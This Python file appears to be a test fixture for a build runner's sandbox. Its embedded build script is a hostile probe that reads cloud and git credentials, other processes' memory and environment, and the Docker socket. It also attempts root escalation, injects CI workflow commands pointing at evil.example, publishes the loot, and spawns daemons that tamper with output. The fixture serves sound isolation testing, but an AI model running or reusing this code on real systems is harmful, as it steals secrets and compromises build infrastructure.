"""The site of somebody who wants what the runner has: its build tries it, and publishes the loot.

Written as the attacker would: whatever a probe gets hold of goes into the log, plain and in
disguise, and into the publish folder. `probes.json` says what each one came back with.
"""

from __future__ import annotations

from pathlib import Path

BUILD = r"""
import base64, ctypes, glob, json, os, socket, subprocess, sys, time
from pathlib import Path

WORKSPACE, HOME, TEMP, SOCKET, PROGRAM = sys.argv[1:6]
FILES = sys.argv[6:]
loot, told = [], {}


def probe(name, *tries):
    got = []
    for each in tries:
        try:
            found = each()
        except Exception as error:
            continue
        if found:
            got.append(str(found))
    loot.extend(got)
    told[name] = len(got)


def read(path):
    return lambda: Path(path).read_bytes().decode("latin-1")


def write(path, text):
    def tried():
        with open(path, "a") as file:
            file.write(text)
        return f"wrote {path}"
    return tried


def others():
    return [it for it in glob.glob("/proc/[0-9]*") if os.stat(it).st_uid == 0] + ["/proc/1"]


def memory(process):
    def tried():
        for line in open(f"{process}/maps"):
            start, end = (int(it, 16) for it in line.split()[0].split("-"))
            with open(f"{process}/mem", "rb") as file:
                file.seek(start)
                return file.read(end - start)
    return tried


def traced(process):
    def tried():
        status = ctypes.CDLL(None, use_errno=True).ptrace(16, int(process.split("/")[-1]), 0, 0)
        return "" if status else f"traced {process}"
    return tried


def docker():
    with socket.socket(socket.AF_UNIX) as way:
        way.connect(SOCKET)
        way.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        return way.recv(1000)


def as_root():
    before = os.geteuid()
    os.setuid(0)
    return f"root, not {before}"


def setuid_program():
    Path("me").write_bytes(Path("/bin/id").read_bytes())
    os.chown("me", 0, 0)
    os.chmod("me", 0o4755)
    out = subprocess.run(["./me"], capture_output=True).stdout
    return out if b"uid=0" in out or b"euid=0" in out else ""


def sudo():
    out = subprocess.run(["su", "-c", "id"], capture_output=True, input=b"").stdout
    return out if b"uid=0" in out else ""


mine = [it for it in glob.glob("/proc/[0-9]*") if os.stat(it).st_uid == os.getuid()]
above = f"/proc/{os.getppid()}"
probe("environment", lambda: [it for it in os.environ.items() if "canary" in it[1]])
probe("environ of others", *(read(f"{it}/environ") for it in others()))
probe("memory of others", *(memory(it) for it in others()))
probe("open files of others", *((lambda it=it: os.listdir(f"{it}/fd")) for it in others()))
probe("ptrace", *(traced(it) for it in others()))
probe("docker", docker)
probe("command files", *(read(it) for it in FILES), *(write(it, "A=b\n") for it in FILES))
probe("home", *(read(f"{HOME}/{it}") for it in
      (".aws/credentials", ".netrc", ".npmrc", ".docker/config.json", ".git-credentials")),
      lambda: os.listdir(HOME), write(f"{HOME}/.bashrc", "x"))
probe("temporary", lambda: os.listdir(TEMP), read(f"{TEMP}/git-credentials.config"))
probe("workspace", read(f"{WORKSPACE}/.git/config"), lambda: os.listdir(WORKSPACE),
      write(f"{WORKSPACE}/package.json", "{}"), write(f"{WORKSPACE}/.git/hooks/post-checkout", "x"))
probe("credentials in the copy", read(".git/config"), *(read(it) for it in glob.glob("gha-creds*")))
probe("upwards", *(write(f"{up}/stolen", "x") for up in ("..", "../cache", "/", "/etc")))
probe("program", write(PROGRAM, "x"),
      *(write(it, "#") for it in glob.glob("../cache/commands-*/*")))
probe("root", as_root, sudo, setuid_program)
probe("signals", lambda: os.kill(1, 9) or "hit")
packager = [it for it in glob.glob("/proc/[0-9]*")
            if b"runner.build.cell" in open(f"{it}/cmdline", "rb").read()]
probe("packager", *(memory(it) for it in packager), *(read(f"{it}/environ") for it in packager),
      *(traced(it) for it in packager))
told["packagers seen"] = len(packager)

Path("me").unlink()
public = Path("public")
text = "\n".join(loot)
(public / "index.html").write_text("<h1>as built</h1>")
(public / "loot.txt").write_text(text)
(public / "probes.json").write_text(json.dumps(told))
for line in ("::set-env name=LD_PRELOAD::/tmp/x.so", "::add-mask::e", "::add-path::/tmp",
             "##[set-output name=url]evil", "::set-output name=url::https://evil.example",
             "x\r::stop-commands::me"):
    print(line)
print(text, base64.b64encode(text.encode()).decode(), text.encode().hex(), text[::-1])

# Daemons, out of every group: whoever of them sees that packaging has begun changes all there is.
for again in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                if os.path.exists("../work/.gitignore"):
                    for place in (*public.glob("*.html"), *glob.glob("../work/store/*/*")):
                        Path(place).write_text("stolen")
                time.sleep(0.001)
        os._exit(0)
"""


def settle(folder: Path, settings: str) -> None:
    """Makes `folder` that site."""
    (folder / "public").mkdir(exist_ok=True)
    (folder / "probe.py").write_text(BUILD)
    (folder / "jam.toml").write_text(settings)
